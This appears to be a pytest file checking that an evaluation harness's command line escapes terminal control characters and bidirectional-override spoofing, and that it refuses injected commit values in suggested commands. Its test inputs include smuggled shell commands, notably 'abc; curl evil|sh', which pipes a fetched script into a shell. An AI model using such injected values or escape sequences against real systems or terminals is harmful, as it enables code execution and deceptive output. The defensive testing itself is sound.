"""Control characters in names, labels, titles and errors: shown, never sent to a terminal."""

from __future__ import annotations

import io
import json
import re
import sys
import time
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import pytest
from rich.progress import Progress, TextColumn

from harness.cli.encoding import show_encoding
from harness.cli.main import main
from harness.events import report_step
from harness.report.repeat import checkout_commands, repeat_commands
from harness.screen import SafeConsole
from harness.store import open_store
from harness.store.records import Cell, RunRecord
from harness.visible import visible, visible_output, wrap

CLEAR = "\x1b[2J\x1b]0;title\x07"
HOSTILE = {
    "escape": CLEAR,
    "C1": "\x9b2J",
    "return": "good\rbad",
    "backspace": "x\b",
    "direction": "\u202egnp.exe",
    "delete": "\x7f",
}
SENT = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")

MakeRecord = Callable[..., RunRecord]


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_control_characters_are_shown(text: str) -> None:
    assert not SENT.search(visible(text))
    assert json.loads(f'"{visible(text)}"') == text


def test_other_characters_stay() -> None:
    text = "MRR ± 0.5†\té 中文 🙂 'a'\n"
    assert visible(text) == text
    assert visible("a\udcffb") == "a\\udcffb"


def test_a_console_shows_them_and_keeps_its_own_codes() -> None:
    out = io.StringIO()
    console = SafeConsole(file=out, force_terminal=True)
    column = TextColumn("{task.description}", markup=False)
    with Progress(column, console=console) as bar:
        bar.add_task(f"{HOSTILE['C1']}\x1b[31m [bold]")
    console.print("\x1b]0;title")
    assert "\\u009b2J" in out.getvalue()
    assert "\\u001b]0;title" in out.getvalue()
    assert "\x1b[?25l" in out.getvalue()  # hides the cursor


def test_progress_of_encoders_still_rewrites_its_line(monkeypatch: pytest.MonkeyPatch) -> None:
    terminal = io.StringIO()
    monkeypatch.setattr(terminal, "isatty", lambda: True)
    monkeypatch.setattr(sys, "stderr", terminal)
    with visible_output(), show_encoding(interval=0.01):
        report_step("encoding with 'use'", 0, 2)
        time.sleep(0.05)
        report_step("encoding with 'use'", 2, 2)
    assert terminal.getvalue().startswith("\r\x1b[Kencoding with 'use'")


def test_every_console_of_the_harness_is_such_a_one() -> None:
    package = Path(sys.modules["harness"].__file__).parent
    users = [p.name for p in package.rglob("*.py") if "rich.console import" in p.read_text()]
    assert users == ["screen.py"]


@pytest.fixture
def command(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Callable[..., str]:
    """Return a function that runs the command line and returns all that it printed."""

    def run(*words: object) -> str:
        monkeypatch.setattr(sys, "argv", ["harness", *map(str, words)])
        with pytest.raises(SystemExit):
            main()
        printed = capsys.readouterr()
        return printed.out + printed.err

    return run


def test_commands_do_not_send_them(
    command: Callable[..., str], tmp_path: Path, make_record: MakeRecord
) -> None:
    text = "".join(HOSTILE.values())
    values = {"model": f"m{text}", "dataset": f"d{text}", "notes": (f"n{text}",)}
    ok = make_record("aaaa", **values, provenance={"commit": f"c0ffee{text}", "host": text})
    bad = make_record("bbbb", status="failed", metrics=(), error=f"e{text}", seed=1)
    cells = [
        Cell(
            suite="toy",
            position=0,
            label=f"R{text}",
            dataset=r.dataset,
            seed=r.seed,
            run_id=r.run_id,
        )
        for r in (ok, bad)
    ]
    with closing(open_store(tmp_path / "results" / "harness.db")) as store:
        store.add(ok)
        store.add(bad)
        store.plan("toy", "", cells)
    for words in (
        ("runs", "list"),
        ("runs", "show", "aaaa"),
        ("runs", "show", "bbbb"),
        ("runs", "diff", "aaaa", "bbbb"),
        ("report",),
        ("report", "--format", "json"),
        ("runs", "show", f"x{text}"),
        ("db", "export", "--out", tmp_path / "records"),
    ):
        printed = command(*words)
        assert not SENT.search(printed), words
    shown = command("runs", "show", "aaaa")
    assert visible(CLEAR) in shown
    table = tmp_path / "table.csv"
    command("report", "--format", "csv", "--out", table)
    assert visible(CLEAR) in table.read_text()
    assert not SENT.search(table.read_text())


def test_output_is_as_before_when_the_command_has_ended(command: Callable[..., str]) -> None:
    before = sys.stdout, sys.stderr
    command("--version")
    assert (sys.stdout, sys.stderr) == before


@pytest.mark.parametrize("commit", ["abc; curl evil|sh", "--help", "c0ffee\nrm", "", None, 3])
def test_no_command_is_suggested_for_what_is_no_commit(
    commit: object, make_record: MakeRecord
) -> None:
    assert checkout_commands({"commit": commit}) == []
    record = make_record("aaaa", provenance={"commit": commit, "models": "my models; ls"})
    first, again = repeat_commands(record)
    assert first == "harness runs rm aaaa"
    assert again.startswith("harness run --models 'my models; ls' --spec ")
    assert checkout_commands({"commit": "c0ffee", "dirty": True}) == [
        "git checkout c0ffee  # had uncommitted changes"
    ]


def test_jupyter_is_no_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    """It sets FORCE_COLOR for the commands of a cell."""
    monkeypatch.setenv("FORCE_COLOR", "1")
    assert not SafeConsole(file=io.StringIO()).is_terminal


def test_commands_in_wrapped_texts_are_not_broken() -> None:
    command = "`harness data fetch a-dataset-with-a-long-name`"
    lines = wrap(f"It is not on this machine; get it: {command}, or else.", 40, later="  ")
    assert [line for line in lines if command in line]
    assert all(len(line) <= 40 for line in lines if command not in line)
    assert " ".join(line.strip() for line in lines).endswith(f"get it: {command}, or else.")
    long = f"`{'harness ' * 12}`"
    assert f"  {long}" in wrap(f"see {long} now", 40, later="  ")
